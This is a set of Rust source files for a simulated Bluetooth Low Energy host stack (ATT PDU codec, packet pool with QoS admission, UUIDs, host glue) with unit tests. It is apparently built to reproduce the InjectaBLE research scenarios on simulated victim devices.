        value: Vec<u8>,
    },
    /// Handle Value Confirmation (0x1E).
    Confirmation,
}

impl AttPdu {
    /// The PDU opcode.
    pub fn opcode(&self) -> u8 {
        match self {
            AttPdu::ErrorResponse { .. } => 0x01,
            AttPdu::ExchangeMtuRequest { .. } => 0x02,
            AttPdu::ExchangeMtuResponse { .. } => 0x03,
            AttPdu::ReadByTypeRequest { .. } => 0x08,
            AttPdu::ReadByTypeResponse { .. } => 0x09,
            AttPdu::ReadRequest { .. } => 0x0A,
            AttPdu::ReadResponse { .. } => 0x0B,
            AttPdu::ReadByGroupTypeRequest { .. } => 0x10,
            AttPdu::ReadByGroupTypeResponse { .. } => 0x11,
            AttPdu::WriteRequest { .. } => 0x12,
            AttPdu::WriteResponse => 0x13,
            AttPdu::WriteCommand { .. } => 0x52,
            AttPdu::Notification { .. } => 0x1B,
            AttPdu::Indication { .. } => 0x1D,
            AttPdu::Confirmation => 0x1E,
        }
    }

    /// Serialises to ATT bytes.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = vec![self.opcode()];
        match self {
            AttPdu::ErrorResponse {
                request_opcode,
                handle,
                code,
            } => {
                out.push(*request_opcode);
                out.extend_from_slice(&handle.to_le_bytes());
                out.push(*code);
            }
            AttPdu::ExchangeMtuRequest { mtu } | AttPdu::ExchangeMtuResponse { mtu } => {
                out.extend_from_slice(&mtu.to_le_bytes());
            }
            AttPdu::ReadByGroupTypeRequest {
                start,
                end,
                group_type,
            } => {
                out.extend_from_slice(&start.to_le_bytes());
                out.extend_from_slice(&end.to_le_bytes());
                out.extend_from_slice(&group_type.to_bytes());
            }
            AttPdu::ReadByTypeRequest {
                start,
                end,
                attribute_type,
            } => {
                out.extend_from_slice(&start.to_le_bytes());
                out.extend_from_slice(&end.to_le_bytes());
                out.extend_from_slice(&attribute_type.to_bytes());
            }
            AttPdu::ReadByGroupTypeResponse { entry_len, data }
            | AttPdu::ReadByTypeResponse { entry_len, data } => {
                out.push(*entry_len);
                out.extend_from_slice(data);
            }
            AttPdu::ReadRequest { handle } => out.extend_from_slice(&handle.to_le_bytes()),
            AttPdu::ReadResponse { value } => out.extend_from_slice(value),
            AttPdu::WriteRequest { handle, value }
            | AttPdu::WriteCommand { handle, value }
            | AttPdu::Notification { handle, value }
            | AttPdu::Indication { handle, value } => {
                out.extend_from_slice(&handle.to_le_bytes());
                out.extend_from_slice(value);
            }
            AttPdu::WriteResponse | AttPdu::Confirmation => {}
        }
        out
    }

    /// Parses ATT bytes; `None` on malformed or unsupported input.
    pub fn from_bytes(bytes: &[u8]) -> Option<AttPdu> {
        let (&opcode, data) = bytes.split_first()?;
        let u16_at = |i: usize| -> Option<u16> {
            Some(u16::from_le_bytes([*data.get(i)?, *data.get(i + 1)?]))
        };
        match opcode {
            0x01 => {
                if data.len() != 4 {
                    return None;
                }
                Some(AttPdu::ErrorResponse {
                    request_opcode: data[0],
                    handle: u16_at(1)?,
                    code: data[3],
                })
            }
            0x02 | 0x03 => {
                if data.len() != 2 {
                    return None;
                }
                let mtu = u16_at(0)?;
                Some(if opcode == 0x02 {
                    AttPdu::ExchangeMtuRequest { mtu }
                } else {
                    AttPdu::ExchangeMtuResponse { mtu }
                })
            }
            0x08 | 0x10 => {
                if data.len() != 6 && data.len() != 20 {
                    return None;
                }
                let ty = Uuid::from_bytes(&data[4..])?;
                let (start, end) = (u16_at(0)?, u16_at(2)?);
                Some(if opcode == 0x08 {
                    AttPdu::ReadByTypeRequest {
                        start,
                        end,
                        attribute_type: ty,
                    }
                } else {
                    AttPdu::ReadByGroupTypeRequest {
                        start,
                        end,
                        group_type: ty,
                    }
                })
            }
            0x09 | 0x11 => {
                let (&entry_len, rest) = data.split_first()?;
                let pdu_data = rest.to_vec();
                Some(if opcode == 0x09 {
                    AttPdu::ReadByTypeResponse {
                        entry_len,
                        data: pdu_data,
                    }
                } else {
                    AttPdu::ReadByGroupTypeResponse {
                        entry_len,
                        data: pdu_data,
                    }
                })
            }
            0x0A => {
                if data.len() != 2 {
                    return None;
                }
                Some(AttPdu::ReadRequest { handle: u16_at(0)? })
            }
            0x0B => Some(AttPdu::ReadResponse {
                value: data.to_vec(),
            }),
            0x12 | 0x52 | 0x1B | 0x1D => {
                if data.len() < 2 {
                    return None;
                }
                let handle = u16_at(0)?;
                let value = data[2..].to_vec();
                Some(match opcode {
                    0x12 => AttPdu::WriteRequest { handle, value },
                    0x52 => AttPdu::WriteCommand { handle, value },
                    0x1B => AttPdu::Notification { handle, value },
                    _ => AttPdu::Indication { handle, value },
                })
            }
            0x13 => {
                if !data.is_empty() {
                    return None;
                }
                Some(AttPdu::WriteResponse)
            }
            0x1E => {
                if !data.is_empty() {
                    return None;
                }
                Some(AttPdu::Confirmation)
            }
            _ => None,
        }
    }
}

/// Raw ATT opcodes used by the zero-alloc steady-state fast paths.
pub mod opcode {
    /// Write Command (no response).
    pub const WRITE_COMMAND: u8 = 0x52;
    /// Handle Value Notification.
    pub const NOTIFICATION: u8 = 0x1B;
}

/// Appends a handle/value ATT PDU (`opcode`, handle LE, value) to `out`.
///
/// Byte-identical to [`AttPdu::to_bytes`] for the Write Command (0x52),
/// Write Request (0x12), Notification (0x1B), and Indication (0x1D) shapes,
/// but encodes into a caller-owned buffer so the steady-state TX path
/// allocates nothing.
pub fn encode_handle_value_into(opcode: u8, handle: u16, value: &[u8], out: &mut Vec<u8>) {
    out.push(opcode);
    out.extend_from_slice(&handle.to_le_bytes());
    out.extend_from_slice(value);
}

/// Borrowed parse of a handle/value ATT PDU: returns `(opcode, handle,
/// value)` without copying the value out of `sdu`.
///
/// Accepts only the two steady-state opcodes ([`opcode::WRITE_COMMAND`] and
/// [`opcode::NOTIFICATION`]); everything else returns `None` so callers fall
/// back to the full [`AttPdu::from_bytes`] path. Mirrors its length checks:
/// a PDU shorter than opcode + 2-byte handle is malformed.
pub fn parse_handle_value(sdu: &[u8]) -> Option<(u8, u16, &[u8])> {
    let (&op, rest) = sdu.split_first()?;
    if op != opcode::WRITE_COMMAND && op != opcode::NOTIFICATION {
        return None;
    }
    let (handle_bytes, value) = rest.split_first_chunk::<2>()?;
    Some((op, u16::from_le_bytes(*handle_bytes), value))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(pdu: AttPdu) {
        assert_eq!(AttPdu::from_bytes(&pdu.to_bytes()), Some(pdu));
    }

    #[test]
    fn all_pdus_roundtrip() {
        roundtrip(AttPdu::ErrorResponse {
            request_opcode: 0x0A,
            handle: 0x0003,
            code: error_code::READ_NOT_PERMITTED,
        });
        roundtrip(AttPdu::ExchangeMtuRequest { mtu: 185 });
        roundtrip(AttPdu::ExchangeMtuResponse { mtu: 23 });
        roundtrip(AttPdu::ReadByGroupTypeRequest {
            start: 1,
            end: 0xFFFF,
            group_type: Uuid::PRIMARY_SERVICE,
        });
        roundtrip(AttPdu::ReadByGroupTypeResponse {
            entry_len: 6,
            data: vec![1, 0, 5, 0, 0x00, 0x18],
        });
        roundtrip(AttPdu::ReadByTypeRequest {
            start: 1,
            end: 10,
            attribute_type: Uuid::long([3; 16]),
        });
        roundtrip(AttPdu::ReadByTypeResponse {
            entry_len: 7,
            data: vec![2, 0, 0x02, 3, 0, 0x00, 0x2A],
        });
        roundtrip(AttPdu::ReadRequest { handle: 0x000C });
        roundtrip(AttPdu::ReadResponse {
            value: b"Hacked".to_vec(),
        });
        roundtrip(AttPdu::WriteRequest {
            handle: 0x0021,
            value: vec![0x55, 0x10, 0x01, 0x0D, 0x0A],
        });
        roundtrip(AttPdu::WriteResponse);
        roundtrip(AttPdu::WriteCommand {
            handle: 0x0021,
            value: vec![1],
        });
        roundtrip(AttPdu::Notification {
            handle: 9,
            value: b"SMS: hi".to_vec(),
        });
        roundtrip(AttPdu::Indication {
            handle: 9,
            value: vec![1, 2],
        });
        roundtrip(AttPdu::Confirmation);
    }

    #[test]
    fn paper_write_request_size() {
        // §VII-A: a Write Request payload of 14 bytes → ATT PDU of
        // 1 (opcode) + 2 (handle) + 11 (value) = 14 bytes.
        let pdu = AttPdu::WriteRequest {
            handle: 0x0021,
            value: vec![0; 11],
        };
        assert_eq!(pdu.to_bytes().len(), 14);
    }

    #[test]
    fn malformed_rejected() {
        assert_eq!(AttPdu::from_bytes(&[]), None);
        assert_eq!(AttPdu::from_bytes(&[0x0A, 1]), None);
        assert_eq!(AttPdu::from_bytes(&[0x02, 1]), None);
        assert_eq!(AttPdu::from_bytes(&[0x13, 9]), None);
        assert_eq!(AttPdu::from_bytes(&[0xFF, 0, 0]), None);
        assert_eq!(AttPdu::from_bytes(&[0x12, 1]), None);
        assert_eq!(AttPdu::from_bytes(&[0x08, 1, 0, 2, 0, 9]), None);
    }

    #[test]
    fn empty_write_value_allowed() {
        roundtrip(AttPdu::WriteRequest {
            handle: 7,
            value: vec![],
        });
    }

    #[test]
    fn encode_into_matches_to_bytes() {
        let cases = [
            AttPdu::WriteCommand {
                handle: 0x0021,
                value: vec![0xDE, 0xAD, 0xBE],
            },
            AttPdu::Notification {
                handle: 0x0009,
                value: b"SMS: hi".to_vec(),
            },
            AttPdu::WriteCommand {
                handle: 0xFFFF,
                value: vec![],
            },
        ];
        for pdu in cases {
            let (op, handle, value) = match &pdu {
                AttPdu::WriteCommand { handle, value } => {
                    (opcode::WRITE_COMMAND, *handle, value.clone())
                }
                AttPdu::Notification { handle, value } => {
                    (opcode::NOTIFICATION, *handle, value.clone())
                }
                _ => unreachable!(),
            };
            let mut out = Vec::new();
            encode_handle_value_into(op, handle, &value, &mut out);
            assert_eq!(out, pdu.to_bytes());
        }
    }

    #[test]
    fn parse_handle_value_agrees_with_from_bytes() {
        let wc = AttPdu::WriteCommand {
            handle: 0x0102,
            value: vec![7, 8, 9],
        }
        .to_bytes();
        assert_eq!(
            parse_handle_value(&wc),
            Some((opcode::WRITE_COMMAND, 0x0102, &[7u8, 8, 9][..]))
        );

        let ntf = AttPdu::Notification {
            handle: 0x0030,
            value: vec![],
        }
        .to_bytes();
        assert_eq!(
            parse_handle_value(&ntf),
            Some((opcode::NOTIFICATION, 0x0030, &[][..]))
        );

        // Everything the borrowed parser rejects must also be either a
        // different opcode or malformed to the full parser.
        assert_eq!(parse_handle_value(&[]), None);
        assert_eq!(parse_handle_value(&[0x52, 1]), None);
        assert_eq!(AttPdu::from_bytes(&[0x52, 1]), None);
        let write_req = AttPdu::WriteRequest {
            handle: 1,
            value: vec![2],
        }
        .to_bytes();
        assert_eq!(
            parse_handle_value(&write_req),
            None,
            "0x12 takes the slow path"
        );
    }
}
