//! A fixed-capacity packet pool with pluggable QoS admission policies.
//!
//! PR 4 made the PHY frame pipeline allocation-free; this module extends
//! that budget upward into host-side TX/RX queuing. Every buffer that
//! crosses the ATT/L2CAP/link boundary in steady state is borrowed from a
//! [`PacketPool`]: a preallocated set of MTU-sized `Vec<u8>`s handed out as
//! [`PooledBuf`]s that return themselves (capacity intact) on drop. Once
//! the pool is built, the steady-state alloc/free cycle never touches the
//! heap — pinned by `bench/tests/alloc_budget.rs`.
//!
//! Admission is governed by a [`QosPolicy`]. [`QosPolicy::Fair`] is plain
//! first-come-first-served; [`QosPolicy::ReserveN`] reserves a minimum
//! number of buffers per client (a client = one connection slot in the
//! multi-connection Central), so a chatty connection can exhaust the shared
//! portion but can never starve another client below its reserve.

use std::sync::{Arc, Mutex, MutexGuard, PoisonError};

/// Maximum distinct pool clients (connection slots) a pool arbitrates.
pub const MAX_POOL_CLIENTS: usize = 8;

/// Default buffer capacity: the largest ATT MTU the GATT server negotiates
/// (247 B) plus the 4-byte L2CAP header.
pub const DEFAULT_BUF_CAPACITY: usize = 251;

/// Admission policy applied on every [`PacketPool::alloc`].
///
/// Covered by the xtask R4 exhaustive-match rule: consumers must decide
/// explicitly how to treat every policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum QosPolicy {
    /// First-come-first-served: any client may take any free buffer.
    Fair,
    /// Per-client reservations: client `c` is always admitted while it
    /// holds fewer than `reserve[c]` buffers; beyond its reserve it may
    /// only draw from buffers not needed to honour the *other* clients'
    /// outstanding reservations.
    ReserveN {
        /// Reserved buffer count per client index.
        reserve: [u16; MAX_POOL_CLIENTS],
    },
}

/// Point-in-time pool occupancy counters (see [`PacketPool::stats`]).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PoolStats {
    /// Total buffers owned by the pool.
    pub capacity: usize,
    /// Buffers currently free.
    pub free: usize,
    /// Most buffers ever simultaneously in use.
    pub high_water: usize,
    /// Allocations refused (capacity or policy), per client index.
    pub denials: [u64; MAX_POOL_CLIENTS],
}

impl PoolStats {
    /// Total denials across every client.
    pub fn total_denials(&self) -> u64 {
        self.denials.iter().sum()
    }
}

#[derive(Debug)]
struct PoolInner {
    free: Vec<Vec<u8>>,
    capacity: usize,
    buf_capacity: usize,
    in_use: [u16; MAX_POOL_CLIENTS],
    policy: QosPolicy,
    high_water: usize,
    denials: [u64; MAX_POOL_CLIENTS],
}

impl PoolInner {
    /// Whether `client` may take a buffer under the active policy. Assumes
    /// at least one buffer is free.
    fn admitted(&self, client: usize) -> bool {
        match &self.policy {
            QosPolicy::Fair => true,
            QosPolicy::ReserveN { reserve } => {
                let held = usize::from(self.in_use[client]);
                if held < usize::from(reserve[client]) {
                    return true;
                }
                // Beyond its reserve a client may only use buffers that are
                // not needed to top every *other* client up to its reserve.
                let shortfall: usize = reserve
                    .iter()
                    .zip(self.in_use.iter())
                    .enumerate()
                    .filter(|(i, _)| *i != client)
                    .map(|(_, (&r, &u))| usize::from(r).saturating_sub(usize::from(u)))
                    .sum();
                self.free.len() > shortfall
            }
        }
    }
}

/// A fixed-capacity pool of MTU-sized buffers shared between the host
/// stacks of one node. Cloning the handle shares the same pool.
///
/// # Example
///
/// ```
/// use ble_host::pool::{PacketPool, QosPolicy};
/// let pool = PacketPool::new(4, 64, QosPolicy::Fair);
/// let mut buf = pool.alloc(0).expect("pool has room");
/// buf.extend_from_slice(b"pdu");
/// assert_eq!(&buf[..], b"pdu");
/// drop(buf); // returns to the pool, capacity intact
/// assert_eq!(pool.stats().free, 4);
/// ```
#[derive(Debug, Clone)]
pub struct PacketPool {
    inner: Arc<Mutex<PoolInner>>,
}

impl PacketPool {
    /// Builds a pool of `capacity` buffers, each able to hold `buf_capacity`
    /// bytes without reallocating. All heap allocation happens here.
    pub fn new(capacity: usize, buf_capacity: usize, policy: QosPolicy) -> Self {
        let free = (0..capacity)
            .map(|_| Vec::with_capacity(buf_capacity))
            .collect();
        PacketPool {
            inner: Arc::new(Mutex::new(PoolInner {
                free,
                capacity,
                buf_capacity,
                in_use: [0; MAX_POOL_CLIENTS],
                policy,
                high_water: 0,
                denials: [0; MAX_POOL_CLIENTS],
            })),
        }
    }

    /// The pool every standalone [`crate::HostStack`] builds for itself:
    /// generous enough that single-connection traffic never sees a denial.
    pub fn default_for_host() -> Self {
        PacketPool::new(32, DEFAULT_BUF_CAPACITY, QosPolicy::Fair)
    }

    fn lock(&self) -> MutexGuard<'_, PoolInner> {
        self.inner.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Takes one empty buffer for `client`. Returns `None` — without
    /// allocating — when the pool is exhausted or the policy refuses the
    /// client; the refusal is recorded in [`PoolStats::denials`].
    pub fn alloc(&self, client: usize) -> Option<PooledBuf> {
        let client = client.min(MAX_POOL_CLIENTS - 1);
        let mut inner = self.lock();
        if inner.free.is_empty() || !inner.admitted(client) {
            inner.denials[client] += 1;
            return None;
        }
        let buf = inner.free.pop()?;
        inner.in_use[client] += 1;
        let used = inner.capacity - inner.free.len();
        if used > inner.high_water {
            inner.high_water = used;
        }
        Some(PooledBuf {
            buf,
            origin: BufOrigin::Pooled {
                pool: Arc::clone(&self.inner),
                client: client as u8,
            },
        })
    }

    /// [`PacketPool::alloc`] with a heap fallback: when the pool refuses,
    /// a plain unpooled buffer is handed out instead so no PDU is ever
    /// dropped. The denial still shows up in the stats — the alloc-budget
    /// test sizes pools so steady state never takes this branch.
    pub fn alloc_or_heap(&self, client: usize) -> PooledBuf {
        self.alloc(client).unwrap_or_else(|| {
            let buf_capacity = self.lock().buf_capacity;
            PooledBuf {
                buf: Vec::with_capacity(buf_capacity),
                origin: BufOrigin::Heap,
            }
        })
    }

    /// Per-buffer byte capacity.
    pub fn buf_capacity(&self) -> usize {
        self.lock().buf_capacity
    }

    /// Point-in-time occupancy counters.
    pub fn stats(&self) -> PoolStats {
        let inner = self.lock();
        PoolStats {
            capacity: inner.capacity,
            free: inner.free.len(),
            high_water: inner.high_water,
            denials: inner.denials,
        }
    }
}

#[derive(Debug)]
enum BufOrigin {
    /// Borrowed from a pool; returned (capacity intact) on drop.
    Pooled {
        pool: Arc<Mutex<PoolInner>>,
        client: u8,
    },
    /// Overflow/compatibility buffer owned outright; freed on drop.
    Heap,
}

/// An owned, growable byte buffer borrowed from a [`PacketPool`] (or, for
/// overflow and `Vec<u8>` compatibility, plain heap memory). Dereferences
/// to `[u8]`; dropping a pooled buffer returns it to its pool.
#[derive(Debug)]
pub struct PooledBuf {
    buf: Vec<u8>,
    origin: BufOrigin,
}

impl PooledBuf {
    /// Appends bytes. Within the pool's `buf_capacity` this never
    /// reallocates; beyond it the buffer grows like a `Vec` (and still
    /// returns to the pool with its grown capacity).
    pub fn extend_from_slice(&mut self, bytes: &[u8]) {
        self.buf.extend_from_slice(bytes);
    }

    /// Appends one byte.
    pub fn push(&mut self, byte: u8) {
        self.buf.push(byte);
    }

    /// Empties the buffer, keeping its capacity.
    pub fn clear(&mut self) {
        self.buf.clear();
    }

    /// Copies the contents into a fresh `Vec`.
    pub fn to_vec(&self) -> Vec<u8> {
        self.buf.clone()
    }
}

impl Drop for PooledBuf {
    fn drop(&mut self) {
        if let BufOrigin::Pooled { pool, client } = &self.origin {
            let mut returned = std::mem::take(&mut self.buf);
            returned.clear();
            let mut inner = pool.lock().unwrap_or_else(PoisonError::into_inner);
            let client = usize::from(*client);
            inner.in_use[client] = inner.in_use[client].saturating_sub(1);
            inner.free.push(returned);
        }
    }
}

impl std::ops::Deref for PooledBuf {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        &self.buf
    }
}

impl From<Vec<u8>> for PooledBuf {
    /// Wraps an existing heap `Vec` (compatibility with non-hot-path
    /// callers); the buffer is not pool-managed.
    fn from(buf: Vec<u8>) -> Self {
        PooledBuf {
            buf,
            origin: BufOrigin::Heap,
        }
    }
}

impl Clone for PooledBuf {
    /// Clones the *contents* into an unpooled heap buffer — cloning must
    /// not double-count pool occupancy.
    fn clone(&self) -> Self {
        PooledBuf {
            buf: self.buf.clone(),
            origin: BufOrigin::Heap,
        }
    }
}

impl PartialEq for PooledBuf {
    fn eq(&self, other: &Self) -> bool {
        self.buf == other.buf
    }
}

impl Eq for PooledBuf {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn alloc_free_cycle_restores_the_pool() {
        let pool = PacketPool::new(2, 16, QosPolicy::Fair);
        let a = pool.alloc(0).unwrap();
        let b = pool.alloc(0).unwrap();
        assert!(pool.alloc(0).is_none(), "pool exhausted");
        assert_eq!(pool.stats().free, 0);
        drop(a);
        drop(b);
        let stats = pool.stats();
        assert_eq!(stats.free, 2);
        assert_eq!(stats.high_water, 2);
        assert_eq!(stats.total_denials(), 1);
    }

    #[test]
    fn returned_buffers_come_back_empty_with_capacity() {
        let pool = PacketPool::new(1, 16, QosPolicy::Fair);
        let mut buf = pool.alloc(0).unwrap();
        buf.extend_from_slice(&[1, 2, 3]);
        drop(buf);
        let buf = pool.alloc(0).unwrap();
        assert!(buf.is_empty());
    }

    #[test]
    fn reserve_n_protects_the_quiet_client() {
        let mut reserve = [0u16; MAX_POOL_CLIENTS];
        reserve[0] = 1;
        reserve[1] = 2;
        let pool = PacketPool::new(4, 16, QosPolicy::ReserveN { reserve });
        // Client 0 grabs greedily: its reserve (1) plus the unreserved
        // slack (4 - 1 - 2 = 1), then hits the wall.
        let _a = pool.alloc(0).unwrap();
        let _b = pool.alloc(0).unwrap();
        assert!(pool.alloc(0).is_none(), "client 1's reserve is protected");
        // Client 1 can still take its full reserve.
        let _c = pool.alloc(1).unwrap();
        let _d = pool.alloc(1).unwrap();
        assert!(pool.alloc(1).is_none(), "pool now genuinely empty");
    }

    #[test]
    fn heap_fallback_never_fails_and_counts_the_denial() {
        let pool = PacketPool::new(1, 16, QosPolicy::Fair);
        let _held = pool.alloc(0).unwrap();
        let mut overflow = pool.alloc_or_heap(0);
        overflow.extend_from_slice(b"x");
        assert_eq!(&overflow[..], b"x");
        assert_eq!(pool.stats().total_denials(), 1);
        drop(overflow);
        assert_eq!(pool.stats().free, 0, "heap buffer does not join the pool");
    }

    #[test]
    fn clone_is_unpooled() {
        let pool = PacketPool::new(1, 16, QosPolicy::Fair);
        let mut buf = pool.alloc(0).unwrap();
        buf.extend_from_slice(&[7, 7]);
        let copy = buf.clone();
        drop(buf);
        assert_eq!(pool.stats().free, 1);
        assert_eq!(&copy[..], &[7, 7]);
        drop(copy);
        assert_eq!(pool.stats().free, 1, "clone never returns to the pool");
    }

    #[test]
    fn from_vec_compares_by_content() {
        let pool = PacketPool::new(1, 16, QosPolicy::Fair);
        let mut buf = pool.alloc(0).unwrap();
        buf.extend_from_slice(&[1, 2]);
        assert_eq!(buf, PooledBuf::from(vec![1, 2]));
        assert_ne!(buf, PooledBuf::from(vec![1]));
    }
}
