//! The BLE host stack: L2CAP, ATT, GATT and a minimal Security Manager.
//!
//! The InjectaBLE paper's scenario A injects **ATT requests** — reads and
//! writes against the victim's attribute server — to trigger device
//! features ("turning the bulb on and off, changing its colour…", §VI-A).
//! Scenario B serves a forged *Device Name* characteristic from a hijacked
//! Slave. Reproducing those scenarios needs a working host stack on the
//! victim devices, which this crate provides:
//!
//! * [`l2cap`] — fragmentation/recombination of host SDUs over Link-Layer
//!   data PDUs (fixed channels: ATT 0x0004, SMP 0x0006);
//! * [`att`] — the Attribute Protocol PDUs (requests, responses, errors,
//!   notifications);
//! * [`gatt`] — an attribute-database server with service/characteristic
//!   building, plus client-side request tracking;
//! * [`smp`] — legacy Just Works pairing (confirm exchange via `c1`, STK
//!   via `s1`) to provision keys for the encryption countermeasure;
//! * [`HostStack`] — the glue implementing `ble_link::LinkLayerDelegate`.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod att;
pub mod gatt;
mod host;
pub mod l2cap;
pub mod smp;
mod uuid;

pub use gatt::{CharacteristicBuilder, GattServer, ServiceBuilder};
pub use host::{HostEvent, HostStack, SecurityAction};
pub use uuid::Uuid;
