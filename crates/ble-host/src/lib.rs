//! The BLE host stack: L2CAP, ATT, GATT and a minimal Security Manager.
//!
//! The InjectaBLE paper's scenario A injects **ATT requests** — reads and
//! writes against the victim's attribute server — to trigger device
//! features ("turning the bulb on and off, changing its colour…", §VI-A).
//! Scenario B serves a forged *Device Name* characteristic from a hijacked
//! Slave. Reproducing those scenarios needs a working host stack on the
//! victim devices, which this crate provides:
//!
//! * [`l2cap`] — fragmentation/recombination of host SDUs over Link-Layer
//!   data PDUs (fixed channels: ATT 0x0004, SMP 0x0006);
//! * [`att`] — the Attribute Protocol PDUs (requests, responses, errors,
//!   notifications);
//! * [`gatt`] — an attribute-database server with service/characteristic
//!   building, plus client-side request tracking;
//! * [`smp`] — legacy Just Works pairing (confirm exchange via `c1`, STK
//!   via `s1`) to provision keys for the encryption countermeasure;
//! * [`conn`] — fixed connection slots ([`ConnectionManager`], typed
//!   [`ConnHandle`]s with reuse generations) for multi-connection nodes;
//! * [`pool`] — the fixed-capacity [`PacketPool`] with QoS admission that
//!   keeps host-side TX/RX queuing off the heap in steady state;
//! * [`HostStack`] — the glue implementing `ble_link::LinkLayerDelegate`.

#![warn(missing_docs)]
#![forbid(unsafe_code)]

pub mod att;
pub mod conn;
pub mod gatt;
mod host;
pub mod l2cap;
pub mod pool;
pub mod smp;
mod uuid;

pub use conn::{ConnHandle, ConnectionManager, SlotState};
pub use gatt::{CharacteristicBuilder, GattServer, ServiceBuilder};
pub use host::{HostEvent, HostStack, SecurityAction};
pub use pool::{
    PacketPool, PoolStats, PooledBuf, QosPolicy, DEFAULT_BUF_CAPACITY, MAX_POOL_CLIENTS,
};
pub use uuid::Uuid;
