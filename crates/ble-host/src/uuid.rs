//! Attribute UUIDs.

use std::fmt;

/// A Bluetooth UUID: 16-bit SIG-assigned shorthand or full 128-bit.
///
/// # Example
///
/// ```
/// use ble_host::Uuid;
/// assert_eq!(Uuid::DEVICE_NAME, Uuid::short(0x2A00));
/// let vendor = Uuid::long([0xF0; 16]);
/// assert_ne!(vendor, Uuid::DEVICE_NAME);
/// assert_eq!(Uuid::short(0x2800).to_bytes().len(), 2);
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Uuid {
    /// 16-bit SIG-assigned UUID.
    Short(u16),
    /// Full 128-bit UUID (little-endian byte order).
    Long([u8; 16]),
}

impl Uuid {
    /// GATT Primary Service declaration (0x2800).
    pub const PRIMARY_SERVICE: Uuid = Uuid::Short(0x2800);
    /// GATT Characteristic declaration (0x2803).
    pub const CHARACTERISTIC: Uuid = Uuid::Short(0x2803);
    /// Client Characteristic Configuration descriptor (0x2902).
    pub const CCCD: Uuid = Uuid::Short(0x2902);
    /// GAP service (0x1800).
    pub const GAP_SERVICE: Uuid = Uuid::Short(0x1800);
    /// Device Name characteristic (0x2A00) — the characteristic the paper's
    /// scenario B serves a forged "Hacked" value from.
    pub const DEVICE_NAME: Uuid = Uuid::Short(0x2A00);
    /// Immediate Alert service (0x1802) — used by the keyfob.
    pub const IMMEDIATE_ALERT_SERVICE: Uuid = Uuid::Short(0x1802);
    /// Alert Level characteristic (0x2A06).
    pub const ALERT_LEVEL: Uuid = Uuid::Short(0x2A06);

    /// Creates a 16-bit UUID.
    pub const fn short(value: u16) -> Uuid {
        Uuid::Short(value)
    }

    /// Creates a 128-bit UUID from little-endian bytes.
    pub const fn long(bytes: [u8; 16]) -> Uuid {
        Uuid::Long(bytes)
    }

    /// Over-the-air encoding (2 or 16 bytes, little-endian).
    pub fn to_bytes(self) -> Vec<u8> {
        match self {
            Uuid::Short(v) => v.to_le_bytes().to_vec(),
            Uuid::Long(b) => b.to_vec(),
        }
    }

    /// Parses an over-the-air UUID (2 or 16 bytes).
    pub fn from_bytes(bytes: &[u8]) -> Option<Uuid> {
        match bytes.len() {
            2 => Some(Uuid::Short(u16::from_le_bytes([bytes[0], bytes[1]]))),
            16 => Some(Uuid::Long(bytes.try_into().expect("checked length"))),
            _ => None,
        }
    }
}

impl fmt::Display for Uuid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Uuid::Short(v) => write!(f, "0x{v:04X}"),
            Uuid::Long(b) => {
                // Canonical 8-4-4-4-12 form from little-endian storage.
                write!(
                    f,
                    "{:02x}{:02x}{:02x}{:02x}-{:02x}{:02x}-{:02x}{:02x}-{:02x}{:02x}-{:02x}{:02x}{:02x}{:02x}{:02x}{:02x}",
                    b[15], b[14], b[13], b[12], b[11], b[10], b[9], b[8],
                    b[7], b[6], b[5], b[4], b[3], b[2], b[1], b[0]
                )
            }
        }
    }
}

impl From<u16> for Uuid {
    fn from(value: u16) -> Self {
        Uuid::Short(value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn byte_roundtrips() {
        for u in [Uuid::short(0x2A00), Uuid::long([7; 16])] {
            assert_eq!(Uuid::from_bytes(&u.to_bytes()), Some(u));
        }
    }

    #[test]
    fn invalid_lengths_rejected() {
        assert_eq!(Uuid::from_bytes(&[1]), None);
        assert_eq!(Uuid::from_bytes(&[1, 2, 3]), None);
        assert_eq!(Uuid::from_bytes(&[0; 17]), None);
    }

    #[test]
    fn display_forms() {
        assert_eq!(Uuid::short(0x2A00).to_string(), "0x2A00");
        let long = Uuid::long([
            0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D,
            0x0E, 0x0F,
        ]);
        assert_eq!(long.to_string(), "0f0e0d0c-0b0a-0908-0706-050403020100");
    }
}
