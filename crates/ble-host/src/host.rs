//! The host stack glue: one object implementing
//! [`ble_link::LinkLayerDelegate`] that routes L2CAP channels to the GATT
//! server, the ATT client bookkeeping and the Security Manager.

use std::collections::VecDeque;

use ble_link::{DeviceAddress, LinkLayerDelegate, Llid, Role};
use simkit::SimRng;

use crate::att::{self, AttPdu};
use crate::gatt::{GattEvent, GattServer};
use crate::l2cap::{self, Reassembler, CID_ATT, CID_SMP, DEFAULT_LL_PAYLOAD};
use crate::pool::{PacketPool, PooledBuf};
use crate::smp::{SmpContext, SmpInitiator, SmpOutcome, SmpPdu, SmpResponder};
use crate::uuid::Uuid;

/// Application-level events produced by the stack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HostEvent {
    /// The Link Layer connected.
    Connected {
        /// Our role.
        role: Role,
        /// Peer address.
        peer: DeviceAddress,
    },
    /// The Link Layer disconnected.
    Disconnected {
        /// HCI reason code.
        reason: u8,
    },
    /// A peer wrote one of our characteristics.
    Written {
        /// Value handle.
        handle: u16,
        /// New value (pool-borrowed on the steady-state path).
        value: PooledBuf,
        /// Whether it was an acknowledged Write Request.
        acknowledged: bool,
    },
    /// A peer read one of our characteristics.
    ReadByPeer {
        /// Value handle.
        handle: u16,
    },
    /// A Read Response arrived for our Read Request.
    ReadResponse {
        /// The value read.
        value: Vec<u8>,
    },
    /// Our Write Request was acknowledged.
    WriteConfirmed,
    /// An ATT Error Response arrived.
    AttError {
        /// Opcode of our failed request.
        request_opcode: u8,
        /// Related handle.
        handle: u16,
        /// ATT error code.
        code: u8,
    },
